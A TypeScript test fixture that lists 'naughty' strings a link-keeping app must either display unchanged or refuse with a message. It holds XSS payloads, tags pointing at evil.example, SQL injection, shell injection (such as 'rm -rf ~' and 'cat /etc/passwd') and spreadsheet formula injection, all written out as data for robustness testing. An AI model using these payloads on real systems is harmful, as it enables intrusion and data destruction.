import { text } from "../src/links/text.en.ts";

/** A text that has broken programs before: it must be refused with a reason, or come back as it went in. */
export interface NaughtyText {
  readonly text: string;
  /** Which fields of a link refuse it, and what they say; all others show it. */
  readonly refused: Partial<Readonly<Record<"title" | "note" | "url", string>>>;
}

const longWord = "Donaudampfschifffahrtsgesellschaft".repeat(5);

/** Shown wherever they are written, by what they try. */
const shown: Readonly<Record<string, readonly string[]>> = {
  "a script": [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script src=//evil.example></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT >alert(1)</SCRIPT >",
    "<script>alert(1)//",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
  ],
  "an event": [
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    '"/><b hx-on:load="alert(1)">',
    '<p hx-get="/auth/logout" hx-trigger="load">',
  ],
  "markup that swallows or moves the page": [
    "<b>bold</b>",
    "<!-- a comment",
    "<!--><b>",
    "<plaintext>",
    "<xmp><noscript>",
    "</main></body></html>",
    "</option></select><button>Sign out</button>",
    "<form action=//evil.example><button>Save</button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<template><p>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<svg><style><a title='</style><img src onerror=alert(1)>'>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "<a name=forms><a id=content><img name=body>",
  ],
  quotes: [
    "'",
    '"',
    "''",
    '""',
    "`",
    "'\"`",
    "\\",
    "\\'",
    '\\"',
    "\u00AB\u00BB\u201C\u2019",
    "O'Brien & Sons",
  ],
  entities: [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;",
    "&amp;amp;",
    "&#60;b&#62;",
    "&#x3C;b&#x3E;",
    "&nbsp",
    "&notit;",
    "&#0;",
    "&#xD800;",
    "?a=1&copy=2&lt=3",
    "&",
  ],
  templates: [
    "{{7*7}}",
    "\u0024{7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include 'x' %}",
    "$&$1$`$$",
    "{0} {name}",
    "[[1]]",
  ],
  "text that runs from right to left": [
    "\u0645\u0631\u062D\u0628\u0627 \u0628\u0643\u0645",
    "\u05E9\u05DC\u05D5\u05DD 123 abc",
    "\u202Egpj.exe",
    "\u202E\u202D\u202B\u202A",
    "a\u2067b\u2066c",
    "\u200F.\u200E.\u061C",
    "\u202Ereversed <b>and bold</b>",
  ],
  "what cannot be seen": [
    "zero\u200Bwidth\u200C\u200D\u2060",
    "a mark\uFEFF of order",
    "soft\u00ADhyphen",
    "no\u00A0break",
    "\u3164",
    "\u2800",
    "\u115F\u1160",
    "tag\u{E0001}\u{E0041}\u{E007F}",
    "\u180E\u2061\u2062\u2063",
  ],
  "marks that pile up": [
    `Z${"\u0300\u0301\u0302\u0489\u0336".repeat(12)}`,
    "e\u0301 is not \u00E9",
    "\u0E01\u0E33\u0E49\u0E33\u0E33\u0E33\u0E33\u0E33",
    "\uFDFD\uFDFD\uFDFD",
    "\u0BA8\u0BBF \u0915\u094D\u0937\u093F",
    "\u1100\u1161\u11A8",
    "\u0652\u0652\u0652",
  ],
  emoji: [
    "\u{1F600}",
    "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}",
    "\u{1F1E9}\u{1F1EA}\u{1F1F8}",
    "\u270B\u{1F3FF}\uFE0F\uFE0E",
    "1\uFE0F\u20E3",
    "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
  ],
  "letters of all the world": [
    "\u7530\u4E2D\u3055\u3093\u306B\u3042\u3052\u3066\u4E0B\u3055\u3044",
    "\u{20000}\u{2A6D6}",
    "\uC0AC\uD68C\uACFC\uD559\uC6D0",
    "\u0421\u044A\u0435\u0448\u044C \u0436\u0435",
    "\u03A4\u1F74 \u03B3\u03BB\u1FF6\u03C3\u03C3\u03B1",
    "\u0130\u0131\u017F\u00DF\uFB03",
    "\u210C\u{1D525}\u{1D7D9}\uFF21",
    "\uFFFD\uFFFE\uFFFF\u{10FFFF}",
  ],
  "letters that look like others": [
    "\u0430pple.com",
    "g\u043E\u043Egle",
    "trunk\u0038\u0335",
    "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
    "\u2039b\u203A \u02C2b\u02C3",
    "\u2044\u2215\u29F8 \u2024\u2024/",
  ],
  "no letters at all": [
    "\u00A1\u2122\u00A3",
    "-",
    "--",
    "_",
    ".",
    "..",
    "/",
    "//",
    "?",
    "#",
    "0",
    "-1",
    "1e309",
  ],
  "very long words": [
    longWord,
    "W".repeat(200),
    "\u4E2D".repeat(200),
    "a-".repeat(100),
    "i\u0307\u0323".repeat(66),
  ],
  SQL: [
    "'; DROP TABLE link; --",
    "' OR '1'='1",
    '1") UNION SELECT * FROM user --',
    "100% _sure_",
    "*",
    'NEAR("a" "b", 2)',
    "a OR b NOT c",
    "title:x AND code:*",
    "\\_%[a-z]^",
  ],
  "a shell": [
    "$(touch /tmp/naughty)",
    "`id`",
    "; rm -rf ~",
    "| cat /etc/passwd",
    "../../../etc/passwd",
    "C:\\nul",
    "~root",
    "%0a%0d",
  ],
  "a spreadsheet": [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("//evil.example")',
    "=cmd|' /C calc'!A0",
    'a,"b""c",d',
  ],
  "format and percent signs": [
    "%s%n%x",
    "%d",
    "%",
    "%%",
    "%41%42",
    "%00",
    "%E0%80%80",
    "%u0041",
    "+",
    "a+b c%20d",
  ],
  "words that mean something to programs": [
    "null",
    "undefined",
    "NaN",
    "true",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    '{"a":[1,{}]}',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://",
    "//evil.example",
  ],
};

const {
  titleNotPlain: ONE_LINE,
  titleTooLong: AT_MOST_200,
  noteNotPlain: PLAIN,
  noteTooLong: AT_MOST_10_000,
} = text.input;
const { controlCharacter: INVISIBLE, tooLong: AT_MOST_8192 } = text.target;

const anywhere = { title: ONE_LINE, note: PLAIN, url: INVISIBLE };
const butInNotes = { title: ONE_LINE, url: INVISIBLE };

/** Refused somewhere, by what they try. */
const refused: Readonly<Record<string, readonly NaughtyText[]>> = {
  "more than fits": [
    { text: "x".repeat(201), refused: { title: AT_MOST_200 } },
    { text: "\u{1F600}".repeat(201), refused: { title: AT_MOST_200 } },
    { text: "y".repeat(10_000), refused: { title: AT_MOST_200, url: AT_MOST_8192 } },
    { text: "long ".repeat(2000).trim(), refused: { title: AT_MOST_200, url: AT_MOST_8192 } },
    {
      text: "z".repeat(10_001),
      refused: { title: AT_MOST_200, note: AT_MOST_10_000, url: AT_MOST_8192 },
    },
  ],
  "line breaks and control characters": [
    { text: "two\nlines", refused: butInNotes },
    { text: "two\r\nlines", refused: butInNotes },
    { text: "tab\tstop", refused: butInNotes },
    { text: "Set-Cookie:\r\n a=b", refused: butInNotes },
    { text: "two\rlines", refused: anywhere },
    { text: "nul\0byte", refused: anywhere },
    { text: "bell\u0007\u001B[31mred\u001B[0m", refused: anywhere },
    { text: "del\u007F next\u0085line", refused: anywhere },
    { text: "a\u000Bb\u000Cc\u001Cd", refused: anywhere },
    { text: "<script\0>alert(1)</script\0>", refused: anywhere },
    { text: "line\u2028and\u2029paragraph", refused: { url: INVISIBLE } },
  ],
};

/** Every text, by what it tries. */
export const naughtyTexts: Readonly<Record<string, readonly NaughtyText[]>> = {
  ...Object.fromEntries(
    Object.entries(shown).map(([what, texts]) => [
      what,
      texts.map((text) => ({ text, refused: {} })),
    ]),
  ),
  ...refused,
};

/** As much of a text as a line of a report takes, in plain ASCII. */
export function abridge(text: string): string {
  const plain = JSON.stringify(text).replace(/[^ -~]/g, (unit) => {
    return `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`;
  });
  return plain.length <= 60 ? plain : `${plain.slice(0, 57)}...`;
}
